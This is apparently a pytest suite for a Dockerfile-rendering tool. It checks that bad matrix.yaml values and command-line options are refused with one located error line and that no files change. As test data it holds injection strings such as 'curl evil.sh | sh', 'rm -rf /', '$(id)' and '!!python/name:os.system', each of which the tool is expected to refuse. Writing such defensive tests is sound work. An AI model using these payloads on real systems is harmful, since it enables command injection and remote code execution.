"""The bad-input contract for matrix.yaml through the real command line (issue 18).

Every value that reaches a Dockerfile passes its grammar; the renderer refuses a Dockerfile whose instructions differ
from the template's; a mistyped value is one located line; `render` never deletes committed work because of a typo.
Each case states its expected message and line by hand, from the text it writes.
"""

from __future__ import annotations

import dataclasses
import shutil
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gpumatrix.errors import UsageError
from gpumatrix.render import environment, render_cell
from support.projects import ONE_CELL_MATRIX

HEAD = ONE_CELL_MATRIX  # 8 lines; whatever is appended starts on line 9


def refused(cli, project: Path, snapshot, text: str, *args: str) -> list[str]:
    """Write `text` as the matrix, run the command, and return its error lines after checking the contract."""
    matrix = project / "matrix.yaml"
    matrix.write_text(text)
    before = snapshot(project)
    rc, out, err = cli("--matrix", str(matrix), *(args or ("render",)))
    assert rc == 2, f"exit {rc}\n{out}{err}"
    assert "Traceback" not in err and out == ""
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines and all(line.startswith("error: ") for line in lines), err
    assert snapshot(project) == before, "bad input changed files"
    return lines


# ---- grammar of values that reach a Dockerfile ----------------------------------------------------------------

INJECTIONS = [
    ("index-url-newline", 'settings:\n  index_url: "https://example.org/whl/{variant}\\nRUN curl evil.sh | sh"\n',
     "10: settings.index_url", "http(s) URL"),
    ("index-url-no-scheme", "settings:\n  index_url: download.pytorch.org/whl/{variant}\n",
     "10: settings.index_url", "http(s) URL"),
    ("index-url-ftp", "settings:\n  index_url: ftp://example.org/whl\n", "10: settings.index_url", "http(s) URL"),
    ("index-url-quote", "settings:\n  index_url: 'https://example.org/whl\" && rm -rf / #'\n",
     "10: settings.index_url", "http(s) URL"),
    ("os-package-command", "settings:\n  os_packages: [git, 'curl; curl evil.sh | sh']\n",
     "10: settings.os_packages[1]", "Debian package"),
    ("os-package-subshell", "settings:\n  os_packages: ['$(id)']\n", "10: settings.os_packages[0]", "Debian package"),
    ("base-image-free-text", "settings:\n  base_image: my favourite image\n", "10: settings.base_image",
     "image reference"),
    ("base-image-newline", 'settings:\n  base_image: "ubuntu:22.04\\nRUN id"\n', "10: settings.base_image",
     "image reference"),
    ("runtime-image-shell", "settings:\n  runtime_image: 'ubuntu:22.04 && id'\n", "10: settings.runtime_image",
     "image reference"),
    ("network-shell", "settings:\n  network: 'host; id'\n", "10: settings.network", "network mode"),
    ("override-base-image", 'overrides:\n  - match: {cuda: "12.8"}\n    base_image: "a b"\n',
     "11: overrides[0].base_image", "image reference"),
    ("unicode-digit-version", "settings:\n  pip: \"2\u0665.1\"\n", "10: settings.pip", "version"),
]


@pytest.mark.parametrize(("text", "where", "what"), [c[1:] for c in INJECTIONS], ids=[c[0] for c in INJECTIONS])
def test_values_outside_their_grammar_are_one_located_line(cli, rendered_project, snapshot, text, where, what):
    lines = refused(cli, rendered_project, snapshot, HEAD + text)
    assert len(lines) == 1, lines
    assert f"{rendered_project / 'matrix.yaml'}:{where}:" in lines[0]
    assert what in lines[0]


def test_values_inside_their_grammar_render(cli, project, snapshot):
    text = HEAD + (
        "settings:\n"
        "  index_url: https://mirror.example.org:8443/pytorch/whl/{variant}?x=1\n"
        "  base_image: registry.example.org:5000/mirror/nvidia/cuda:12.8.1-cudnn-devel-ubuntu24.04\n"
        "  runtime_image: nvidia/cuda:12.8.1-base-ubuntu24.04@sha256:" + "a" * 64 + "\n"
        "  os_packages: [libgl1, g++, 'curl=7.81.0-1ubuntu1.16', 'libc6:amd64']\n"
        "  network: host\n"
    )
    (project / "matrix.yaml").write_text(text)
    rc, _, err = cli("--matrix", str(project / "matrix.yaml"), "render")
    assert rc == 0, err
    dockerfile = (project / "docker" / "cu12.8-py3.11-torch2.7.1" / "Dockerfile").read_text()
    assert "ARG TORCH_INDEX_URL=https://mirror.example.org:8443/pytorch/whl/cu128?x=1\n" in dockerfile
    assert "apt-get install -y --no-install-recommends libgl1 g++ curl=7.81.0-1ubuntu1.16 libc6:amd64" in dockerfile


def test_index_url_with_credentials_is_refused_without_echoing_them(cli, project, snapshot):
    lines = refused(cli, project, snapshot, HEAD + "settings:\n  index_url: https://me:s3cret@example.org/whl\n")
    assert len(lines) == 1 and "settings.index_url" in lines[0] and "credentials" in lines[0]
    assert "s3cret" not in lines[0]


# ---- the renderer's last guard ---------------------------------------------------------------------------------


@pytest.fixture
def shipped_cpu_cell(expand_file, repo):
    expansion = expand_file(repo / "matrix.yaml")
    return next(c for c in expansion.cells if c.name == "cpu-py3.11-torch2.13.0")


@pytest.mark.parametrize("field, value", [
    ("os_packages", ("git\nRUN curl evil.sh | sh",)),
    ("index_url", "https://example.org/whl \\\n    && curl evil.sh | sh"),
    ("base_image", "ubuntu:22.04\nUSER root"),
    ("pip", "25.3\nCOPY / /"),
])
def test_renderer_refuses_a_value_that_adds_to_the_dockerfile(repo, shipped_cpu_cell, field, value):
    """Values built past the loader's grammar (as a future code path might): the guard still stops them."""
    env = environment(repo / "templates")
    assert render_cell(env, shipped_cpu_cell, "gpu-images")  # the cell as it is renders
    bad = dataclasses.replace(shipped_cpu_cell, **{field: value})
    with pytest.raises(UsageError, match="cpu-py3.11-torch2.13.0"):
        render_cell(env, bad, "gpu-images")


# ---- one mistyped value: one located line ----------------------------------------------------------------------


def shipped(repo: Path) -> str:
    return (repo / "matrix.yaml").read_text()


def test_a_mistyped_torch_on_the_shipped_matrix_is_one_line_with_its_line(cli, rendered_project, snapshot, repo):
    text = shipped(repo).replace('"2.11.0", "2.14.1"]', '"2.11.0", "2.14.9"]')
    assert text != shipped(repo)
    lines = refused(cli, rendered_project, snapshot, text)
    assert len(lines) == 1, lines
    assert f"{rendered_project / 'matrix.yaml'}:10: axes.torch[5]: torch 2.14.9 is not in the compatibility data" \
        in lines[0]


def test_a_python_with_no_wheels_is_one_line_not_silently_dropped(cli, rendered_project, snapshot, repo):
    text = shipped(repo).replace('python: ["3.10", "3.11", "3.12"]', 'python: ["3.10", "3.11", "3.21"]')
    lines = refused(cli, rendered_project, snapshot, text)
    assert len(lines) == 1, lines
    assert f"{rendered_project / 'matrix.yaml'}:9: axes.python[2]: 3.21 yields no cell" in lines[0]
    assert "wheels for Python" in lines[0]


def test_a_cuda_whose_cells_are_all_excluded_is_one_line(cli, rendered_project, snapshot):
    text = HEAD.replace('cuda: ["12.8"]', 'cuda: ["12.8", "13.0"]') + 'exclude:\n  - {cuda: "13.0"}\n'
    lines = refused(cli, rendered_project, snapshot, text)
    assert lines == [f"error: {rendered_project / 'matrix.yaml'}:4: axes.cuda[1]: 13.0 yields no cell "
                     "(every combination with it is excluded)"]


def test_an_arch_refused_for_many_cells_is_one_line(cli, rendered_project, snapshot):
    text = HEAD.replace('python: ["3.11"]', 'python: ["3.10", "3.11", "3.12"]') + "settings:\n  archs: [sm_70]\n"
    lines = refused(cli, rendered_project, snapshot, text)
    assert len(lines) == 1, lines
    assert "sm_70" in lines[0] and "3 cells" in lines[0]


@pytest.mark.parametrize("extra, where, needle", [
    ('exclude:\n  - {cuda: "12.4"}\n', "10: exclude[0]", "matches no combination"),
    ('overrides:\n  - match: {cuda: "12.9"}\n    archs: [sm_90]\n', "10: overrides[0].match", "selects no cell"),
    ('overrides:\n  - match: {torch: ["2.7.1"], python: "3.12"}\n    pip: "24.0"\n', "10: overrides[0].match",
     "selects no cell"),
    ("include:\n  - {cuda: cpu, python: '3.11', torch: '2.13.0', flavour: serve}\n", "10: include[0]",
     "needs `layers`"),
    ("include:\n  - {cuda: cpu, python: '3.11', torch: '2.13.0', flavour: serve, layers: []}\n", "10: include[0]",
     "needs `layers`"),
    ("include:\n  - {cuda: cpu, python: '3.11', torch: '2.13.0', flavour: serve, layers: [cpu]}\n"
     "  - {cuda: cpu, python: '3.11', torch: '2.13.0', flavour: serve, layers: [app]}\n", "11: include[1]",
     "already include[0]"),
    ("include:\n  - {cuda: cpu, python: '3.11', torch: '2.13.0'}\n  - {cuda: cpu, python: '3.11', torch: '2.13.0'}\n",
     "11: include[1]", "already include[0]"),
])
def test_rules_that_select_nothing_or_repeat_are_one_located_line(cli, project, snapshot, extra, where, needle):
    lines = refused(cli, project, snapshot, HEAD + extra)
    assert len(lines) == 1, lines
    assert f"{project / 'matrix.yaml'}:{where}:" in lines[0] and needle in lines[0]


def test_defaults_that_select_nothing_are_located(cli, project, snapshot):
    text = HEAD.replace('  python: "3.11"\n', '  python: "3.12"\n  torch: {"12.8": "2.6.0"}\n')
    lines = refused(cli, project, snapshot, text)
    assert [line.split(": ", 2)[1] for line in lines] == [
        f"{project / 'matrix.yaml'}:8", f"{project / 'matrix.yaml'}:9"]
    assert "defaults.python: no cell has Python 3.12" in lines[0]
    assert "defaults.torch.12.8: no cell has torch 2.6.0 on CUDA 12.8" in lines[1]


# ---- render keeps committed work -------------------------------------------------------------------------------


def test_a_typo_that_would_drop_cells_deletes_nothing(cli, rendered_project, snapshot, repo):
    """Before: `cuda: ["12.4", "12.8", "13.1"]` dropped every 13.0 cell and render removed their directories."""
    docker_before = snapshot(rendered_project / "docker")
    text = shipped(repo).replace('cuda: ["12.4", "12.8", "13.0"]', 'cuda: ["12.4", "12.8", "13.1"]')
    lines = refused(cli, rendered_project, snapshot, text)
    assert len(lines) == 1 and "axes.cuda[2]: CUDA 13.1 is not in the compatibility data" in lines[0]
    assert snapshot(rendered_project / "docker") == docker_before


def test_render_removes_only_directories_that_hold_just_a_rendered_dockerfile(cli, rendered_project, repo):
    docker = rendered_project / "docker"
    notes = docker / "cu12.4-py3.10-torch2.5.1" / "NOTES.md"
    notes.write_text("kept by a person\n")
    hand_made = docker / "my-experiment"
    hand_made.mkdir()
    (hand_made / "Dockerfile").write_text("FROM ubuntu:24.04\n")
    text = shipped(repo).replace('cuda: ["12.4", "12.8", "13.0"]', 'cuda: ["12.8", "13.0"]')
    (rendered_project / "matrix.yaml").write_text(text.replace('torch: ["2.5.1", "2.6.0", ', 'torch: ['))
    rc, out, err = cli("--matrix", str(rendered_project / "matrix.yaml"), "render")
    assert rc == 0, err
    assert not (docker / "cu12.4-py3.11-torch2.5.1").exists()  # only a rendered Dockerfile: removed
    assert "removed docker/cu12.4-py3.11-torch2.5.1/" in err
    assert notes.read_text() == "kept by a person\n"
    assert (hand_made / "Dockerfile").read_text() == "FROM ubuntu:24.04\n"
    assert "kept docker/my-experiment/" in err and "kept docker/cu12.4-py3.10-torch2.5.1/" in err


# ---- files where they should not be -----------------------------------------------------------------------------


def test_a_matrix_outside_the_project_is_one_line(cli, tmp_path, repo):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.copy(repo / "matrix.yaml", outside / "matrix.yaml")
    shutil.copytree(repo / "requirements", outside / "requirements")
    rc, out, err = cli("--matrix", str(outside / "matrix.yaml"), "render")
    assert rc == 2 and "Traceback" not in err
    assert err.strip() == (f"error: {outside / 'templates' / 'Dockerfile.j2'}: no such template; the project root "
                           "is the directory that holds the matrix file, and it needs templates/ (give --matrix "
                           "inside the project)")
    assert sorted(p.name for p in outside.iterdir()) == ["matrix.yaml", "requirements"]


def test_a_directory_where_a_dockerfile_belongs_is_one_line(cli, rendered_project, snapshot):
    dockerfile = rendered_project / "docker" / "cpu-py3.11-torch2.13.0" / "Dockerfile"
    dockerfile.unlink()
    dockerfile.mkdir()
    before = snapshot(rendered_project)
    rc, out, err = cli("--matrix", str(rendered_project / "matrix.yaml"), "render")
    assert rc == 2 and "Traceback" not in err
    assert err.strip() == f"error: {dockerfile}: is a directory, where a rendered Dockerfile belongs; move it away"
    assert snapshot(rendered_project) == before


def test_a_file_where_the_docker_directory_belongs_is_one_line(cli, project):
    (project / "docker").write_text("not a directory\n")
    rc, out, err = cli("--matrix", str(project / "matrix.yaml"), "render")
    assert rc == 2 and "Traceback" not in err
    assert err.strip() == f"error: {project / 'docker'}: is a file, where the rendered Dockerfiles' directory belongs"
    assert (project / "docker").read_text() == "not a directory\n"


def test_a_directory_given_as_the_matrix_is_one_line(cli, project):
    rc, out, err = cli("--matrix", str(project / "requirements"), "list")
    assert rc == 2
    assert err.strip() == f"error: {project / 'requirements'}: is a directory, not a matrix file"


def test_a_huge_matrix_is_refused_at_once(cli, project, snapshot):
    text = HEAD + "# " + "x" * 100 + "\n"
    text += "".join(f"# padding line {i} {'y' * 80}\n" for i in range(50_000))  # about 4.5 MB
    (project / "matrix.yaml").write_text(text)
    started = time.monotonic()
    rc, out, err = cli("--matrix", str(project / "matrix.yaml"), "render")
    assert time.monotonic() - started < 2
    assert rc == 2
    assert err.strip() == (f"error: {project / 'matrix.yaml'}: the matrix file is larger than 1,000,000 bytes, "
                           "the limit for hand-written input")


def test_a_matrix_that_is_not_utf8_is_one_line(cli, project):
    (project / "matrix.yaml").write_bytes(HEAD.encode() + b"# caf\xe9\n")
    rc, out, err = cli("--matrix", str(project / "matrix.yaml"), "render")
    assert rc == 2
    assert err.strip() == (f"error: {project / 'matrix.yaml'}: the matrix file is not UTF-8 text (byte "
                           f"{len(HEAD) + 5}); save it as UTF-8")


# ---- the whole command path, for any text ----------------------------------------------------------------------

_SHIPPED_LINES = (Path(__file__).resolve().parents[2] / "matrix.yaml").read_text().splitlines(keepends=True)
_NASTY = st.sampled_from(["\n", "\r", "\t", " ", "'", '"', "\\", "$(id)", "`id`", ";", "|", "&&", "#", "{", "}",
                          "[", "]", ":", "- ", "*a", "&a", "!!python/name:os.system", "\x00", "\xe9", "\u0665",
                          "2.7.1", "12.8", "cpu", "sm_90", "RUN id", "https://", "@", "%0a", "null", "~"])
_EDIT = st.tuples(st.integers(0, len(_SHIPPED_LINES) - 1), st.integers(0, 200),
                  st.lists(st.one_of(_NASTY, st.text(max_size=6)), max_size=4).map("".join), st.integers(0, 6))


def _apply(edits) -> str:
    lines = list(_SHIPPED_LINES)
    for line_no, column, insert, cut in edits:
        line = lines[line_no]
        at = min(column, len(line))
        lines[line_no] = line[:at] + insert + line[at + cut:]
    return "".join(lines)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(edits=st.lists(_EDIT, min_size=1, max_size=3))
def test_any_edit_of_the_matrix_renders_or_is_refused_with_nothing_changed(edits, cli, tmp_path_factory, repo):
    """render on any text: exit 0 (and `render --check` then passes), or exit 2 with only `error:` lines and every
    file as it was. Never a traceback, never exit 1."""
    project = tmp_path_factory.mktemp("prop")
    for part in ("templates", "requirements", "docker"):
        shutil.copytree(repo / part, project / part)
    text = _apply(edits)
    (project / "matrix.yaml").write_text(text, encoding="utf-8", errors="surrogateescape")
    before = {str(p): p.read_bytes() for p in sorted(project.rglob("*")) if p.is_file()}
    rc, out, err = cli("--matrix", str(project / "matrix.yaml"), "render")
    assert rc in (0, 2), err
    assert "Traceback" not in err
    if rc == 2:
        assert all(line.startswith("error: ") for line in err.splitlines() if line.strip()), err
        assert {str(p): p.read_bytes() for p in sorted(project.rglob("*")) if p.is_file()} == before
    else:
        assert cli("--matrix", str(project / "matrix.yaml"), "render", "--check")[0] == 0


# ---- the project's own files ------------------------------------------------------------------------------------


def test_a_broken_template_is_one_line_naming_its_line(cli, rendered_project, snapshot):
    template = rendered_project / "templates" / "Dockerfile.j2"
    lines = template.read_text().splitlines(keepends=True)
    lines.insert(20, "{% if cell.pre %}\n")  # never closed
    template.write_text("".join(lines))
    before = snapshot(rendered_project)
    rc, out, err = cli("--matrix", str(rendered_project / "matrix.yaml"), "render")
    assert rc == 2 and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1
    assert err.startswith(f"error: {template}:") and "template syntax error" in err
    assert snapshot(rendered_project) == before


def test_a_directory_given_as_the_build_report_is_refused_before_building(cli, rendered_project, monkeypatch):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")  # a build that started would fail here
    report_dir = rendered_project / "out" / "report-dir"
    report_dir.mkdir(parents=True)
    rc, out, err = cli("--matrix", str(rendered_project / "matrix.yaml"), "build", "--cuda", "cpu",
                       "--report", str(report_dir))
    assert rc == 2
    assert err.strip().splitlines()[-1] == f"error: --report {report_dir}: is a directory; give the path of a file"


_IN_PIECES = st.sampled_from(["requests", "numpy<2", "==", ">=1.0", "; python_version<'3.12'", "[extra]", " @ ",
                              "https://example.org/x.whl", "-r ", "-c ", "../", "/etc/passwd", "cpu.in", "app.in",
                              "--index-url https://x", "-e .", "#", "\n", "\r\n", "\t", "\\", "\x00", "\xe9", "\u0665",
                              "torch", "nvidia-cublas-cu12", " ", "$(id)"])


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.lists(st.one_of(_IN_PIECES, st.text(max_size=5)), max_size=12).map("".join))
def test_any_in_file_bakes_or_is_refused_with_nothing_changed(text, cli, tmp_path_factory, repo):
    """`bake` of the CPU cell reads its layer (requirements/cpu.in) and lock: for any text of the layer, exit 0 or
    exit 2 with only `error:` lines, no traceback, and no file written on exit 2."""
    project = tmp_path_factory.mktemp("inprop")
    for part in ("templates", "requirements", "docker", "locks"):
        shutil.copytree(repo / part, project / part)
    shutil.copy(repo / "matrix.yaml", project / "matrix.yaml")
    (project / "requirements" / "cpu.in").write_text(text, encoding="utf-8", errors="surrogateescape")
    before = {str(p): p.read_bytes() for p in sorted(project.rglob("*")) if p.is_file()}
    rc, out, err = cli("--matrix", str(project / "matrix.yaml"), "bake", "--cuda", "cpu")
    assert rc in (0, 2), err
    assert "Traceback" not in err
    if rc == 2:
        assert all(line.startswith("error: ") or line.startswith("run `make lock`")
                   for line in err.splitlines() if line.strip()), err
        assert {str(p): p.read_bytes() for p in sorted(project.rglob("*")) if p.is_file()} == before


def test_list_with_a_directory_in_place_of_a_lock_is_one_line(cli, rendered_project, repo):
    shutil.copytree(repo / "locks", rendered_project / "locks")
    lock = rendered_project / "locks" / "cpu-py3.11-torch2.13.0.txt"
    lock.unlink()
    lock.mkdir()
    rc, out, err = cli("--matrix", str(rendered_project / "matrix.yaml"), "list", "--cuda", "cpu")
    assert rc == 2 and out == ""
    assert err.strip() == f"error: {lock}: is a directory, not a lock"


def test_a_directory_in_place_of_a_layer_file_is_named_for_what_it_is(cli, project):
    (project / "requirements" / "cpu.in").unlink()
    (project / "requirements" / "cpu.in").mkdir()
    rc, out, err = cli("--matrix", str(project / "matrix.yaml"), "list")
    assert rc == 2
    assert err.strip() == (f"error: {project / 'matrix.yaml'}: layer 'cpu': {project / 'requirements' / 'cpu.in'} "
                           "is a directory, not a requirements file")


@pytest.mark.parametrize("args, option", [
    (("build", "--cuda", "cpu", "--base-image", "a b"), "--base-image"),
    (("build", "--cuda", "cpu", "--runtime-image", "ubuntu:24.04;id"), "--runtime-image"),
    (("lock", "--cuda", "cpu", "--network", "host; id"), "--network"),
    (("test", "--cuda", "cpu", "--image", "x y"), "--image"),
    (("sbom", "--cuda", "cpu", "--image", "$(id)"), "--image"),
    (("list", "--python", "\u0663.11"), "--python"),
    (("build", "--cuda", "cpu", "--index-url", 'https://example.org/"$(id)"'), "--index-url"),
])
def test_command_line_values_pass_the_same_grammar(cli, rendered_project, snapshot, args, option, monkeypatch):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")  # nothing may reach an engine
    before = snapshot(rendered_project)
    rc, out, err = cli("--matrix", str(rendered_project / "matrix.yaml"), *args)
    assert rc == 2 and "Traceback" not in err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and option in lines[0], err
    assert snapshot(rendered_project) == before
